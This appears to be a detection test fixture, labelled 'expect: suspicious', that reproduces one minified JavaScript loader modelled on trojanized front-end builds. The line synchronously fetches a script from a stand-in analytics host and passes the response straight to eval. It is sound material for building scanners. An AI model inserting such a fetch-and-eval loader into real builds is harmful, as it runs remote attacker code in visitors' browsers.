// expect: suspicious
// source: trojanized minified front-end builds (e.g. the 2021-2024 "analytics loader" injections): on one line, a synchronous XHR fetches a script and the same function evaluates what came back.
!function(){var x=new XMLHttpRequest;x.open("GET","https://cdn.analytics-loader.example/s.js",!1),x.send(),eval(x.responseText)}();
